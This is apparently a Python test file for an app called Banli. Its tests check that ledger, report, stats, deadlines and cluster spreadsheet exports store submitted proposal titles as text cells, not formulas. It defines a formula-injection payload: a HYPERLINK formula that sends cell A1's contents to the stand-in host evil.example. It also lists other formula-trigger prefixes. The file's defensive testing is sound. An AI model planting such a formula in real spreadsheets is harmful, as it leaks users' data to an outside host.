"""Every text cell Banli writes to .xlsx is text, never a formula (issue #19 item 3).

A deputy can submit a title such as =HYPERLINK(…); every download that carries it (ledger, stats,
clusters, reports, the deadlines dashboard) must hold it as a string cell (data_type "s").
"""

import datetime as dt
import io

from openpyxl import load_workbook

from banli.ledger.export import ledger_export

from . import factories as f
from .test_text_support import _fresh_text_caches, build_world  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
OTHERS = ["+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_text(content: bytes, *values):
    found = {v: [] for v in values}
    for c in _cells(content):
        if c.data_type == "f":
            raise AssertionError(f"formula cell {c.coordinate}: {c.value!r}")
        for v in values:
            if isinstance(c.value, str) and v in c.value:
                found[v].append(c)
    for v, cells in found.items():
        assert cells, f"{v!r} is missing from the file"
        assert all(c.data_type == "s" for c in cells), v
        assert all(c.quotePrefix for c in cells if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))), v


def test_formula_title_is_text_in_the_ledger_export(cast):
    a = f.assigned(cast, title=EVIL)
    _assert_text(ledger_export(actor=None, session=a.proposal.session), EVIL)


def test_formula_titles_are_text_in_reports_and_stats_downloads(cast, login):
    a = f.assigned(cast, title=EVIL)
    for t in OTHERS:
        f.assigned(cast, title=t + "关于")
    c = login(cast.staff_npc)
    q = {"session": cast.npc_session.pk}
    for url in ("/reports/ledger.xlsx", "/reports/responsibility.xlsx"):
        r = c.get(url, q)
        assert r.status_code == 200, url
        _assert_text(r.content, EVIL, "+1+2关于", "@SUM(1,2)关于")
    r = c.get("/stats/cases/", {**q, "key": "assignments", "format": "xlsx"})
    assert r.status_code == 200
    _assert_text(r.content, EVIL)
    assert a.proposal.title == EVIL


def test_formula_title_is_text_in_the_deadlines_export(cast, login, monkeypatch):
    f.assigned(cast, title=EVIL, day=dt.date(2024, 3, 1))
    monkeypatch.setattr("banli.deadlines.views._today", lambda request: dt.date(2024, 6, 4))
    r = login(cast.staff_npc).get("/deadlines/export.xlsx")
    assert r.status_code == 200
    _assert_text(r.content, EVIL)


def test_formula_title_is_text_in_the_clusters_export(cast, login):
    w = build_world(cast)
    w.a.title = EVIL
    w.a.save()
    r = login(cast.staff_npc).get("/text/clusters/export/", {"session": w.cur.pk})
    assert r.status_code == 200
    _assert_text(r.content, EVIL)
